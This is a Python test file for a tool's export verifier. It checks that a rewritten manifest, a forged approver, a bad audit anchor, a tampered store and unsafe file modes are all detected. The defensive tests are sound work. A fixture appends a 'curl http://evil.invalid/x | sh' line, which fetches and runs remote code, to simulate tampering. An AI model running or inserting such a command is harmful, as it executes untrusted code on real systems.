"""``verify`` checks an export against the workspace's approval, not only its own manifest.

The attack (issue 14, point 4): append a line to an exported script, rewrite the script's
hash in the manifest (and the revision hash beside it), and the files agree with their
manifest. Only the store still knows which bytes were approved. With the workspace
reachable, verify compares against the approval record and the audit anchor; without it,
it says that only self-consistency was checked. File modes are checked either way.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from opsgen.export import export_change, verify_artifact
from opsgen.export.verify import SELF_ONLY
from opsgen.flow.testing import SCRIPT, seed_change
from opsgen.store.canonical import sha256_hex, sha256_text
from opsgen.store.repo import Store
from opsgen.store.workspace import Workspace

EVIL = SCRIPT + "curl http://evil.invalid/x | sh\n"


@pytest.fixture()
def out(store: Store, approved: int, tmp_path: Path) -> Path:
    """A clean folder export of the approved change ``motd``."""
    folder = tmp_path / "out"
    export_change(store, approved, actor="ops", to=folder)
    return folder


def _rewrite(out: Path, text: str = EVIL) -> None:
    """Change the script and make its manifest agree with it again."""
    (out / "motd.sh").write_text(text)
    manifest_path = out / "motd.opsgen.json"
    manifest = json.loads(manifest_path.read_text())
    manifest["files"][0]["sha256"] = sha256_text(text)
    manifest["revision"]["sha256"] = sha256_text(text)
    manifest_path.write_text(json.dumps(manifest, indent=2, sort_keys=True) + "\n")


def test_a_clean_export_passes_against_the_store(out: Path, store: Store) -> None:
    result = verify_artifact(out / "motd.sh", store)
    assert result.ok and result.vetted, result.problems
    assert result.checked == "workspace"
    data = result.to_dict()
    assert data["checked"] == "workspace" and data["vetted"] is True
    assert data["workspace"] == str(store.workspace.path)


def test_a_clean_role_export_passes_against_the_store(
    store: Store, approved_playbook: int, tmp_path: Path
) -> None:
    export_change(store, approved_playbook, actor="ops", to=tmp_path / "r", as_role=True)
    result = verify_artifact(tmp_path / "r/site", store)
    assert result.ok and result.vetted, result.problems


def test_a_rewritten_manifest_fails_against_the_store(out: Path, store: Store) -> None:
    _rewrite(out)
    assert verify_artifact(out / "motd.sh").ok  # self-consistent: the old check said OK
    result = verify_artifact(out / "motd.sh", store)
    assert not result.ok and not result.vetted
    approved = sha256_text(SCRIPT)
    assert any(
        p.startswith("motd.sh: sha256 ") and f"not the approved sha256 {approved}" in p
        for p in result.problems
    ), result.problems
    assert any("manifest was not written by an export" in p for p in result.problems)


def test_a_forged_approver_in_the_manifest_fails(out: Path, store: Store) -> None:
    manifest_path = out / "motd.opsgen.json"
    manifest = json.loads(manifest_path.read_text())
    manifest["approvals"].append({"by": "carol", "at": "", "comment": "", "override": ""})
    manifest_path.write_text(json.dumps(manifest))
    problems = verify_artifact(out / "motd.sh", store).problems
    assert any("carol" in p and "did not approve" in p for p in problems), problems


def test_an_audit_anchor_not_in_the_workspace_fails(out: Path, store: Store) -> None:
    manifest_path = out / "motd.opsgen.json"
    manifest = json.loads(manifest_path.read_text())
    manifest["audit_anchor"]["hash"] = "0" * 64
    manifest_path.write_text(json.dumps(manifest))
    problems = verify_artifact(out / "motd.sh", store).problems
    assert any("audit anchor" in p for p in problems), problems


def test_an_export_from_another_workspace_is_not_vetted_by_this_one(
    out: Path, tmp_path: Path
) -> None:
    with Store.open(Workspace(tmp_path / "other"), create=True) as other:
        seed_change(other, script="echo unrelated\n")
        problems = verify_artifact(out / "motd.sh", other).problems
    assert any("audit anchor" in p for p in problems), problems


def test_a_tampered_store_is_reported(out: Path, store: Store, workspace: Workspace) -> None:
    import sqlite3

    raw = sqlite3.connect(workspace.db_path, isolation_level=None)
    raw.execute("DROP TRIGGER revisions_no_update")
    raw.execute("UPDATE revisions SET script = 'x', sha256 = ? WHERE id = 1", (sha256_text("x"),))
    raw.close()
    problems = verify_artifact(out / "motd.sh", store).problems
    assert any("integrity check" in p for p in problems), problems


@pytest.mark.parametrize("mode", [0o777, 0o775, 0o757, 0o4755])
def test_a_writable_or_setuid_script_fails(out: Path, store: Store, mode: int) -> None:
    (out / "motd.sh").chmod(mode)
    for result in (verify_artifact(out / "motd.sh"), verify_artifact(out / "motd.sh", store)):
        assert not result.ok
        assert any(p.startswith(f"motd.sh: mode {mode:04o}") for p in result.problems)


def test_a_world_writable_manifest_fails(out: Path) -> None:
    (out / "motd.opsgen.json").chmod(0o666)
    problems = verify_artifact(out / "motd.sh").problems
    assert any(p.startswith("motd.opsgen.json: mode 0666") for p in problems), problems


def test_a_manifest_asking_for_another_mode_fails(out: Path) -> None:
    manifest_path = out / "motd.opsgen.json"
    manifest = json.loads(manifest_path.read_text())
    manifest["files"][0]["mode"] = "0777"
    manifest_path.write_text(json.dumps(manifest))
    problems = verify_artifact(out / "motd.sh").problems
    assert any("mode 0777" in p and "0755 or 0644" in p for p in problems), problems


def test_without_the_workspace_only_self_consistency_is_claimed(out: Path) -> None:
    result = verify_artifact(out / "motd.sh")
    assert result.ok and not result.vetted
    assert result.checked == SELF_ONLY == "self-consistency only (workspace not found)"
    assert result.to_dict()["checked"] == SELF_ONLY and result.to_dict()["workspace"] is None


def test_the_manifest_hash_recorded_at_export_is_what_is_checked(out: Path, store: Store) -> None:
    recorded = store.exports(1)[0].manifest_sha256
    assert recorded == sha256_hex((out / "motd.opsgen.json").read_bytes())
